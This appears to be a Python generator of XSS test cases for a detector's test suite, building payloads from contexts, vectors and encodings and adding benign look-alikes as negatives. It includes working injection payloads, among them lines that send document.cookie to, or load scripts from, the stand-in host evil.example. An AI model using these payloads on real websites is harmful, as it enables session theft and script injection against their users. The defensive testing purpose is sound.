#!/usr/bin/env python3
"""XSS variants for tests/tests/xss_variants.rs, generated from a grammar of how payloads are
built rather than copied from any list: the context a value breaks out of (markup, a double-,
single- or unquoted attribute value, a script literal, a comment, a raw-text element), the
vector (an element with an event handler, a script element, a script URI in a URL attribute,
an SVG/MathML element, CSS that runs or fetches, a bare handler added to the page's tag, a
script statement), the spellings browsers accept (case, `/` or tab or newline between
attributes, missing quotes or spaces, comments in script, template-literal calls) and the
encodings applications undo (percent, HTML references, JS escapes). Benign look-alikes an API
carries (prose with quotes and parentheses, harmless markup, maths, code snippets, URLs,
CSS colours) are the negatives. Each case goes to the `dev` or `test` half by a hash of its
text: tune on `dev`, report both.

usage: python3 generate.py > cases.jsonl
"""
import hashlib, json, random, urllib.parse

rng = random.Random(21)

EVENTS = ["onerror", "onload", "onmouseover", "onfocus", "onclick", "onanimationstart",
          "onpointerenter", "ontoggle", "onbegin", "onpageshow", "onwheel", "onauxclick"]
HANDLER_TAGS = ["img", "svg", "body", "video", "audio", "details", "input", "iframe", "marquee",
                "div", "a", "select", "textarea", "keygen", "x", "custom-el", "object", "style"]
SINK_CALLS = ["alert(1)", "alert`1`", "prompt(document.domain)", "confirm(1)", "eval(atob('YWxlcnQoMSk='))",
              "print()", "fetch('//evil.example/'+document.cookie)", "top['al'+'ert'](1)",
              "window.location='//evil.example'", "document.write('<img src=//e>')",
              "settimeout('alert(1)')", "import('//evil.example/x.js')", "(alert)(1)",
              "alert/**/(1)", "self[`alert`](1)", "location.href='javascript:alert(1)'"]
URL_ATTRS = [("a", "href"), ("iframe", "src"), ("form", "action"), ("button", "formaction"),
             ("object", "data"), ("embed", "src"), ("math", "href"), ("svg><a", "xlink:href")]
SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", "javascript&colon;",
           " javascript:", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="]
BREAKOUTS = ["", "\">", "'>", ">", "\" ", "</title>", "</textarea>", "</script>", "-->", "</style>",
             "]]>", "</noscript>", "\"/>", "'/>"]
SEPS = [" ", "/", "\t", "\n", " /", "//"]


def q(v):
    return rng.choice([f'"{v}"', f"'{v}'", v, f"`{v}`"[:0] + f'"{v}"'])


def handler_vector():
    tag = rng.choice(HANDLER_TAGS)
    ev = rng.choice(EVENTS)
    call = rng.choice(SINK_CALLS)
    # Values quoted: an unquoted value would swallow a `/` separator (`src=1//onerror=…`).
    pre = rng.choice(["", ' src="x"', " src='1'", ' id="x" tabindex="1"', " autofocus", " open"])
    sep = rng.choice(SEPS)
    return f"<{tag}{pre}{sep}{ev}={q(call)}>"


def script_vector():
    return rng.choice([
        f"<script>{rng.choice(SINK_CALLS)}</script>",
        "<script src=//evil.example/x.js></script>",
        f"<ScRiPt>{rng.choice(SINK_CALLS)}</sCrIpT>",
        f"<script\n>{rng.choice(SINK_CALLS)}</script\n>",
        "<script/src=data:,alert(1)></script>",
        f"<svg><script>{rng.choice(SINK_CALLS)}</script></svg>",
    ])


def uri_vector():
    tag, attr = rng.choice(URL_ATTRS)
    scheme = rng.choice(SCHEMES)
    body = "" if scheme.startswith("data:") else rng.choice(SINK_CALLS)
    return f"<{tag} {attr}={q(scheme + body)}>x</{tag.split('>')[-1].lstrip('<')}>"


def css_vector():
    return rng.choice([
        "<div style=\"background:url(javascript:alert(1))\">",
        "<div style=\"width:expression(alert(1))\">",
        "<p style=\"behavior:url(#default#time2)\" onbegin=alert(1)>",
        "<style>@import'//evil.example/x.css';</style>",
        "<style>*{background:url(//evil.example/?c=)}</style>",
        "<div style=\"-moz-binding:url(//evil.example/x.xml#xss)\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
    ])


def foreign_vector():
    return rng.choice([
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=onmouseover to=alert(1)>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<svg><style><img src=x onerror=alert(1)></style>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=\"data:text/html,<script>alert(1)</script>\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<base href=//evil.example/>",
        "<embed src=//evil.example/x.swf>",
    ])


def attribute_breakout():
    ev = rng.choice(EVENTS)
    call = rng.choice(SINK_CALLS)
    return rng.choice([
        f"\" {ev}=\"{call}",
        f"' {ev}='{call}' x='",
        f"\"{ev}={call} x=\"",
        f"x {ev}={call} autofocus",
        f"\" autofocus {ev}={call}//",
        f"\"/{ev}=\"{call}",
        f"\" style=\"background:url(//evil.example/x)",
    ])


def script_breakout():
    call = rng.choice(SINK_CALLS)
    return rng.choice([
        f"';{call};//",
        f"\";{call};//",
        f"'-{call}-'",
        f"\"+{call}+\"",
        f"`;{call};`",
        f"${{{call}}}",
        f"\\';{call};//",
        f"x'\n{call}//",
        f"';{call}/*",
        f"</script><script>{call}</script>",
        f"'}};{call};{{'",
        f"');{call};('",
    ])


def encode(v):
    how = rng.random()
    if how < 0.55:
        return v
    if how < 0.75:
        return urllib.parse.quote(v, safe="")
    if how < 0.85:
        return urllib.parse.quote(urllib.parse.quote(v, safe=""), safe="")
    if how < 0.95:
        return "".join(f"&#{ord(c)};" if c in "<>\"'" else c for c in v)
    return "".join(f"\\x{ord(c):02x}" if c in "<>" else c for c in v)


BENIGN = [
    "O'Reilly & Associates (2nd edition)", "he said \"hello\" and left", "don't confirm (yet)",
    "a < b and c > d", "x <= 10 && y >= 2", "<b>bold</b> and <i>italic</i>",
    "<p class=\"note\">Shipping in 3-5 days</p>", "<a href=\"/docs/start\">Start here</a>",
    "<img src=\"/img/logo.png\" alt=\"Logo\">", "<ul><li>one</li><li>two</li></ul>",
    "color: #ff0000; font-weight: bold", "background: url(/img/bg.png)",
    "SELECT name FROM users", "print(\"hello world\") in python", "fetch the data (fast)",
    "please alert me when it ships", "https://example.com/search?q=shoes&page=2",
    "mailto:sales@example.com", "The function f(x) = x^2 + 1", "1 + (2 * 3) = 7",
    "Ratings: 5/5 \"would buy again\"", "onion rings, online only", "Use `npm install` to set up",
    "if (a < b) { return a; }", "email me: it's \"urgent\"", "10% off (today only)",
    "<br>", "<hr/>", "The <title> element names the page", "javascript developer wanted",
    "document the cookie policy", "location: Berlin (HQ)", "window seat, please",
    "settings = {\"theme\": \"dark\"}", "a=1&b=2&c=3", "#header .nav > li:hover",
    "<!-- TODO: remove -->", "C:\\Program Files\\App", "x' OR name = 'x'",
    "Meeting at 10:00 (room 4)", "\"quoted\" 'single' `back`", "<3 love it",
    "Price: $9.99 (incl. tax)", "<user@example.com>", "import data from CSV (beta)",
]


def benign():
    b = rng.choice(BENIGN)
    return rng.choice([b, b.upper(), b.replace(" ", "+"), urllib.parse.quote(b, safe="")])


KINDS = [("handler", handler_vector), ("script", script_vector), ("uri", uri_vector),
         ("css", css_vector), ("foreign", foreign_vector), ("attribute", attribute_breakout),
         ("script_context", script_breakout)]

seen, out = set(), []
for kind, make in KINDS:
    for _ in range(700):
        v = make()
        if kind not in ("attribute", "script_context"):
            v = rng.choice(BREAKOUTS) + v
        v = encode(v)
        if v in seen:
            continue
        seen.add(v)
        out.append({"text": v, "xss": True, "kind": kind})
for _ in range(400):
    v = benign()
    if v in seen:
        continue
    seen.add(v)
    out.append({"text": v, "xss": False, "kind": "benign"})
for c in out:
    c["half"] = "dev" if hashlib.sha256(c["text"].encode()).digest()[0] % 2 == 0 else "test"
    print(json.dumps(c))
